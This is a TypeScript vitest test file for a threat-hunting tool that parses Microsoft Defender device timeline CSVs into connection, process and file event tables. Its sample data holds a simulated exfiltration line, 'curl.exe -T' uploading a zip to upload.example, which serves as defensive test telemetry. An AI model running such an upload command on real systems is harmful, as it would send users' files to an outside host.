import { expect, it } from 'vitest';
import { deviceFileEvents, deviceProcessEvents, endpointConnections } from '../../packages/weir/src/tables/index.ts';
import { csv, type Row, sampleRows, timelineRow } from './defenderShapes.ts';
import { withFiles } from './intake.ts';

const [connection = {}, , started = {}] = sampleRows;
const file: Row = {
  ...{ ...started, ActionType: 'FileCreated', ProcessId: '', ProcessCommandLine: '', ReportId: 20 },
  FileName: 'q1.zip',
  FolderPath: String.raw`C:\Users\ada`,
  InitiatingProcessFolderPath: '/usr/bin/',
};
const timeline = (rows: readonly Row[]): string => csv([...rows, file].map(timelineRow));

it("a device's timeline is read as the rows of hunting, with whole paths", async () => {
  const other = { ...started, ActionType: 'Create or Modify System Process', ReportId: 21 };
  await withFiles({ 'pc.csv': timeline([connection, started, other]) }, async ({ inputs, rows }) => {
    expect(inputs[0]).toMatchObject({ format: 'defender csv', records: 5, rows: 3, rejects: 0 });
    expect(inputs[0]?.ignoredWhy).toMatchObject({ 'Weir does not use the action Create or Modify System Process': 1 });
    const ends = '"Timestamp", "DeviceName", "RemoteIP", "RemotePort", "LocalPort", "InitiatingProcessCommandLine"';
    expect(await rows(endpointConnections, ends)).toEqual([
      '639087273301230000|ws-01.example|203.0.113.9|443|50001|curl.exe -T "a, b.zip" https://upload.example/',
    ]);
    expect(await rows(deviceProcessEvents, '"FileName", "ProcessId", "AccountName", "ReportId"')).toEqual([
      'curl.exe|4711|ada|19',
    ]);
    expect(await rows(deviceFileEvents, '"FolderPath", "InitiatingProcessFolderPath"')).toEqual([
      String.raw`C:\Users\ada\q1.zip|/usr/bin/cmd.exe`,
    ]);
  });
});

it('a column that somebody added under the name that another is given is no second one', async () => {
  const text = csv([{ ...timelineRow(connection), DeviceName: 'of an analyst', REMOTEIP: '198.51.100.1' }]);
  await withFiles({ 'pc.csv': text }, async ({ inputs, rows }) => {
    expect(inputs[0]).toMatchObject({ rows: 1, rejects: 0 });
    expect(await rows(endpointConnections, '"DeviceName", "RemoteIP"')).toEqual(['ws-01.example|203.0.113.9']);
  });
});

it('two timelines in one file are read under the header of each', async () => {
  const turned = csv([timelineRow(Object.fromEntries(Object.entries({ ...connection, ReportId: 30 }).reverse()))]);
  await withFiles({ 'pc.csv': timeline([connection]) + turned }, async ({ inputs, rows }) => {
    expect(inputs[0]).toMatchObject({ records: 5, rows: 3, rejects: 0, ignored: 2 });
    expect(await rows(endpointConnections, '"ReportId", "RemoteIP"')).toEqual(['17|203.0.113.9', '30|203.0.113.9']);
  });
});
